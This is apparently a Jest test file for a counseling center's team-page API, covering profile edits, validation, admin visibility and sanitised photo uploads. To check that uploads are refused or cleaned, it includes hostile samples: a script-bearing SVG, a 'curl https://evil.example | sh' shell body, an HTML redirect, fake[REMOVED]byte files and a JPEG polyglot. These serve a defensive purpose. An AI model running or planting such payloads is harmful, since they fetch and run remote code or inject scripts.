import sharp from 'sharp';
import { DataSource } from 'typeorm';
import type { AccountView, StaffProfileView, TeamMemberView } from '../../src/realtime/contract';
import { closeAllSockets, seedCenter, SeededCenter, startApp, TestApp } from '../harness/app';

interface ErrorBody {
  error: { code: string; fields?: string[] };
}
interface StaffRow {
  id: string;
  teamHidden: boolean;
  onTeamPage: boolean;
  crisisContact: boolean;
}

const bearer = (token: string) => `Bearer ${token}`;
const code = (res: { body: unknown }) => (res.body as ErrorBody).error.code;

/** A photo as a phone sends it: large, with EXIF (a description and the camera's maker note stand-in). */
async function photoWithExif(needle: string, width = 1600, height = 1200): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 180, g: 90, b: 40 } } })
    .jpeg({ quality: 90 })
    .withExif({ IFD0: { ImageDescription: needle, Artist: needle, Copyright: needle } })
    .toBuffer();
}

describe('team page (REST)', () => {
  let t: TestApp & { dropDb: () => Promise<void> };
  let c: SeededCenter;
  let other: SeededCenter;
  const tag = Math.random().toString(36).slice(2, 8);

  beforeAll(async () => {
    t = await startApp();
    c = await seedCenter(t, { counselors: 3, clients: 1 });
    other = await seedCenter(t, { counselors: 1, clients: 0 });
  });
  afterAll(async () => {
    closeAllSockets();
    await t.close();
    await t.dropDb();
  });

  const patch = (token: string, body: object) => t.http().patch('/api/accounts/me').set('Authorization', bearer(token)).send(body);
  const profile = async (token: string) =>
    (await t.http().get('/api/accounts/me/profile').set('Authorization', bearer(token)).expect(200)).body as StaffProfileView;
  const team = async (slug = c.slug) => (await t.http().get(`/api/centers/${slug}/team`).expect(200)).body as TeamMemberView[];
  const upload = (token: string, bytes: Buffer, filename: string, contentType: string) =>
    t.http().put('/api/accounts/me/picture').set('Authorization', bearer(token)).attach('file', bytes, { filename, contentType });
  const ownPicture = async (token: string) =>
    (await t.http().get('/api/accounts/me/picture').set('Authorization', bearer(token)).buffer(true).expect(200)).body as Buffer;
  const staffList = async () => (await t.http().get(`/api/centers/${c.slug}/staff`).set('Authorization', bearer(c.admin.token)).expect(200)).body as StaffRow[];

  it('should save a counselor’s profile, show it on the public team page and keep the text encrypted at rest', async () => {
    const anna = c.counselors[0]!;
    const text = `Ich bin Sozialpädagogin und berate seit zehn Jahren ${tag}.`;
    expect(await team()).toEqual([]);
    await patch(anna.token, { displayName: '  Anna Berg  ', teamText: `  ${text}  `, onTeamPage: true }).expect(200, {});

    expect(await profile(anna.token)).toEqual({
      displayName: 'Anna Berg',
      role: 'counselor',
      teamText: text,
      onTeamPage: true,
      crisisContact: false,
      teamHidden: false,
      shown: true,
      pictureUrl: null,
    });
    expect(await team()).toEqual([{ id: anna.id, displayName: 'Anna Berg', text, pictureUrl: null }]);
    // the new name is the name everywhere
    const me = (await t.http().get('/api/auth/me').set('Authorization', bearer(anna.token)).expect(200)).body as AccountView;
    expect(me.displayName).toBe('Anna Berg');
    // stored as ciphertext only
    const rows = await t.app.get(DataSource).query<{ team_text_enc: string }[]>('SELECT team_text_enc FROM staff_profiles WHERE account_id = ?', [anna.id]);
    expect(rows).toHaveLength(1);
    expect(rows[0]!.team_text_enc).not.toContain(tag);
    // not on another center's page; an unknown center is NOT_FOUND
    expect(await team(other.slug)).toEqual([]);
    expect(code(await t.http().get('/api/centers/no-such-center/team').expect(404))).toBe('NOT_FOUND');
    // the admin's staff list carries the switches
    expect((await staffList()).find((s) => s.id === anna.id)).toMatchObject({ onTeamPage: true, teamHidden: false, crisisContact: false });
  });

  it('should refuse bad input with a clear code and change nothing', async () => {
    const ben = c.counselors[1]!;
    await patch(ben.token, { teamText: 'Erster Text', onTeamPage: false }).expect(200);
    const before = await profile(ben.token);
    const refused: [object, string, string | undefined][] = [
      [{ teamText: 'x'.repeat(2001) }, 'VALIDATION_FAILED', 'teamText'],
      [{ displayName: '', teamText: 'Neuer Text' }, 'VALIDATION_FAILED', 'displayName'],
      [{ displayName: '\u200b\u200b', onTeamPage: true }, 'VALIDATION_FAILED', 'displayName'],
      [{ displayName: 'x'.repeat(121) }, 'VALIDATION_FAILED', 'displayName'],
      [{ onTeamPage: 'yes' }, 'VALIDATION_FAILED', 'onTeamPage'],
      [{ crisisContact: 1 }, 'VALIDATION_FAILED', 'crisisContact'],
      [{ teamText: 42 }, 'VALIDATION_FAILED', 'teamText'],
      [{ role: 'admin', teamText: 'Neuer Text' }, 'VALIDATION_FAILED', undefined],
    ];
    for (const [body, expected, field] of refused) {
      const res = await patch(ben.token, body);
      expect([res.status, code(res)]).toEqual([400, expected]);
      if (field) expect((res.body as ErrorBody).error.fields).toContain(field);
    }
    // not JSON at all
    const notJson = await t.http().patch('/api/accounts/me').set('Authorization', bearer(ben.token)).set('Content-Type', 'text/plain').send('teamText=x');
    expect(notJson.status).toBe(415);
    expect(await profile(ben.token)).toEqual(before);

    // who may not: a client, an admin for the counselors' switches, nobody without a token
    expect(code(await patch(c.clients[0]!.token, { displayName: 'Chef' }).expect(403))).toBe('FORBIDDEN');
    expect(code(await t.http().get('/api/accounts/me/profile').set('Authorization', bearer(c.clients[0]!.token)).expect(403))).toBe('FORBIDDEN');
    expect(code(await patch(c.admin.token, { onTeamPage: true }).expect(403))).toBe('FORBIDDEN');
    expect(code(await patch(c.admin.token, { displayName: 'Leitung', crisisContact: true }).expect(403))).toBe('FORBIDDEN');
    await t.http().patch('/api/accounts/me').send({ displayName: 'x' }).expect(401);
    expect((await profile(c.admin.token)).displayName).toBe('Admin 0');
    expect(await profile(ben.token)).toEqual(before);
    expect(await team()).not.toContainEqual(expect.objectContaining({ id: ben.id }));

    // an admin renames themselves
    await patch(c.admin.token, { displayName: 'Leitung' }).expect(200);
    expect((await profile(c.admin.token)).displayName).toBe('Leitung');
  });

  it('should re-encode a JPEG with EXIF into a small JPEG without metadata, and refuse SVGs, scripts, polyglots and oversized files', async () => {
    const anna = c.counselors[0]!;
    const needle = `Kamera-Geheimnis-${tag}`;
    const photo = await photoWithExif(needle);
    expect(photo.includes(needle)).toBe(true);
    expect((await sharp(photo).metadata()).exif).toBeDefined();

    const res = await upload(anna.token, photo, 'urlaub.jpg', 'image/jpeg').expect(200);
    const { pictureUrl } = res.body as { pictureUrl: string };
    expect(pictureUrl).toMatch(new RegExp(`^/api/centers/${c.slug}/team/${anna.id}/picture\\?v=`));
    expect((await team()).find((m) => m.id === anna.id)?.pictureUrl).toBe(pictureUrl);

    const served = await t.http().get(pictureUrl).buffer(true).expect(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    const stored = served.body as Buffer;
    const meta = await sharp(stored).metadata();
    expect(meta.format).toBe('jpeg');
    expect([meta.width, meta.height]).toEqual([512, 512]);
    expect(meta.exif).toBeUndefined();
    expect(meta.icc).toBeUndefined();
    expect(stored.includes(needle)).toBe(false);
    expect(stored.length).toBeLessThanOrEqual(60 * 1024);
    // the database holds only the re-encoded bytes
    const rows = await t.app.get(DataSource).query<{ data: Buffer }[]>('SELECT data FROM staff_pictures WHERE account_id = ?', [anna.id]);
    expect(Buffer.from(rows[0]!.data).includes(needle)).toBe(false);

    // a PNG is taken too (transparency on white), smaller than 512 px stays small
    const png = await sharp({ create: { width: 200, height: 120, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } })
      .png()
      .toBuffer();
    const pngRes = await upload(anna.token, png, 'bild.png', 'image/png').expect(200);
    const fromPng = await sharp(await ownPicture(anna.token)).metadata();
    expect([fromPng.format, fromPng.width, fromPng.height]).toEqual(['jpeg', 200, 120]);
    const current = await ownPicture(anna.token);

    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>');
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const html = Buffer.from('<html><body><script>document.location="https://evil.example"</script></body></html>');
    // JPEG magic bytes, then a script: not an image a decoder accepts
    const fakeJpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>alert(1)</script>'.repeat(20))]);
    // PNG magic bytes in front of an SVG
    const fakePng = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), svg]);
    // a GIF (a real image, but not PNG or JPEG)
    const gif = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#00f' } })
      .gif()
      .toBuffer();
    const refusals: [Buffer, string, string][] = [
      [svg, 'bild.svg', 'image/svg+xml'],
      [svg, 'bild.jpg', 'image/jpeg'],
      [script, 'bild.jpg', 'image/jpeg'],
      [html, 'bild.png', 'image/png'],
      [fakeJpeg, 'bild.jpg', 'image/jpeg'],
      [fakePng, 'bild.png', 'image/png'],
      [gif, 'bild.gif', 'image/gif'],
      [Buffer.alloc(0), 'leer.jpg', 'image/jpeg'],
    ];
    for (const [bytes, name, type] of refusals) {
      const r = await upload(anna.token, bytes, name, type);
      expect([name, r.status, code(r)]).toEqual([name, 415, 'UNSUPPORTED_MEDIA_TYPE']);
    }
    // too big: refused while it streams
    const huge = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(5 * 1024 * 1024)]);
    const big = await upload(anna.token, huge, 'riesig.jpg', 'image/jpeg');
    expect([big.status, code(big)]).toEqual([413, 'PAYLOAD_TOO_LARGE']);
    // not multipart
    const raw = await t.http().put('/api/accounts/me/picture').set('Authorization', bearer(anna.token)).set('Content-Type', 'image/jpeg').send(photo);
    expect(raw.status).toBe(415);
    // nothing changed by any refusal
    expect((await ownPicture(anna.token)).equals(current)).toBe(true);
    expect((await team()).find((m) => m.id === anna.id)?.pictureUrl).toBe((pngRes.body as { pictureUrl: string }).pictureUrl);

    // a real JPEG with a script appended is re-encoded: the script does not survive
    const polyglot = Buffer.concat([photo, Buffer.from(`<script>alert("${needle}")</script>`)]);
    await upload(anna.token, polyglot, 'poly.jpg', 'image/jpeg').expect(200);
    const cleaned = await ownPicture(anna.token);
    expect(cleaned.includes('<script')).toBe(false);
    expect(cleaned.includes(needle)).toBe(false);

    // clients and admins have no picture
    expect(code(await upload(c.clients[0]!.token, photo, 'a.jpg', 'image/jpeg').expect(403))).toBe('FORBIDDEN');
    expect(code(await upload(c.admin.token, photo, 'a.jpg', 'image/jpeg').expect(403))).toBe('FORBIDDEN');
  });

  it('should show only active counselors who chose to appear and are not hidden by the admin, pictures included', async () => {
    const [anna, ben, cem] = [c.counselors[0]!, c.counselors[1]!, c.counselors[2]!];
    await patch(ben.token, { onTeamPage: true }).expect(200);
    await patch(cem.token, { teamText: 'Ich bin noch nicht sichtbar', onTeamPage: false }).expect(200);
    const cemPic = await upload(cem.token, await photoWithExif('x', 600, 600), 'c.jpg', 'image/jpeg').expect(200);
    const ids = async () => (await team()).map((m) => m.id).sort();
    expect(await ids()).toEqual([anna.id, ben.id].sort());
    // opted out: no entry, and no picture for anyone who guesses the address
    expect(
      code(
        await t
          .http()
          .get((cemPic.body as { pictureUrl: string }).pictureUrl)
          .expect(404),
      ),
    ).toBe('NOT_FOUND');

    // the admin hides Anna (illness): gone from the page and the picture, whatever she chose
    const annaPic = (await team()).find((m) => m.id === anna.id)!.pictureUrl!;
    await t.http().post(`/api/admin/staff/${anna.id}/team-visibility`).set('Authorization', bearer(c.admin.token)).send({ hidden: true }).expect(200, {});
    expect(await ids()).toEqual([ben.id]);
    await t.http().get(annaPic).expect(404);
    expect(await profile(anna.token)).toMatchObject({ onTeamPage: true, teamHidden: true, shown: false });
    expect((await staffList()).find((s) => s.id === anna.id)).toMatchObject({ teamHidden: true, onTeamPage: true });

    // bad visibility requests change nothing
    const vis = (token: string, id: string, body: object) =>
      t.http().post(`/api/admin/staff/${id}/team-visibility`).set('Authorization', bearer(token)).send(body);
    expect(code(await vis(c.admin.token, anna.id, { hidden: 'no' }).expect(400))).toBe('VALIDATION_FAILED');
    expect(code(await vis(c.admin.token, anna.id, {}).expect(400))).toBe('VALIDATION_FAILED');
    expect(code(await vis(ben.token, anna.id, { hidden: false }).expect(403))).toBe('FORBIDDEN');
    expect(code(await vis(c.admin.token, c.admin.id, { hidden: false }).expect(404))).toBe('NOT_FOUND');
    expect(code(await vis(c.admin.token, other.counselors[0]!.id, { hidden: true }).expect(404))).toBe('NOT_FOUND');
    expect(code(await vis(c.admin.token, 'not-a-uuid', { hidden: true }).expect(404))).toBe('NOT_FOUND');
    expect(await ids()).toEqual([ben.id]);
    expect((await profile(anna.token)).teamHidden).toBe(true);

    // shown again
    await vis(c.admin.token, anna.id, { hidden: false }).expect(200);
    expect(await ids()).toEqual([anna.id, ben.id].sort());
    await t.http().get(annaPic).expect(200);

    // a deactivated counselor disappears, and comes back when reactivated
    await t.http().post(`/api/centers/${c.slug}/staff/${ben.id}/deactivate`).set('Authorization', bearer(c.admin.token)).expect(200);
    expect(await ids()).toEqual([anna.id]);
    await t.http().post(`/api/centers/${c.slug}/staff/${ben.id}/reactivate`).set('Authorization', bearer(c.admin.token)).expect(200);
    expect(await ids()).toEqual([anna.id, ben.id].sort());

    // another center's slug never serves this center's pictures
    await t
      .http()
      .get(annaPic.replace(`/centers/${c.slug}/`, `/centers/${other.slug}/`))
      .expect(404);
  });

  it('should remove a picture, and delete the profile with the staff account', async () => {
    const cem = c.counselors[2]!;
    await t.http().delete('/api/accounts/me/picture').set('Authorization', bearer(cem.token)).expect(204);
    expect(code(await t.http().delete('/api/accounts/me/picture').set('Authorization', bearer(cem.token)).expect(404))).toBe('NOT_FOUND');
    expect(code(await t.http().get('/api/accounts/me/picture').set('Authorization', bearer(cem.token)).expect(404))).toBe('NOT_FOUND');
    expect((await profile(cem.token)).pictureUrl).toBeNull();

    await upload(cem.token, await photoWithExif('y', 300, 300), 'c.jpg', 'image/jpeg').expect(200);
    await t.http().delete(`/api/centers/${c.slug}/staff/${cem.id}`).set('Authorization', bearer(c.admin.token)).expect(204);
    const ds = t.app.get(DataSource);
    expect(await ds.query('SELECT account_id FROM staff_profiles WHERE account_id = ?', [cem.id])).toEqual([]);
    expect(await ds.query('SELECT account_id FROM staff_pictures WHERE account_id = ?', [cem.id])).toEqual([]);
  });

  it('should document the team routes in /api/docs', async () => {
    const doc = (await t.http().get('/api/docs/openapi.json').expect(200)).body as { paths: Record<string, Record<string, unknown>> };
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining([
        '/api/accounts/me',
        '/api/accounts/me/profile',
        '/api/accounts/me/picture',
        '/api/accounts/me/counselor',
        '/api/centers/{center}/team',
        '/api/centers/{center}/team/{id}/picture',
        '/api/admin/staff/{id}/team-visibility',
      ]),
    );
    expect(doc.paths['/api/accounts/me']).toHaveProperty('patch');
    expect(Object.keys(doc.paths['/api/accounts/me/picture'] ?? {})).toEqual(expect.arrayContaining(['put', 'get', 'delete']));
  });
});
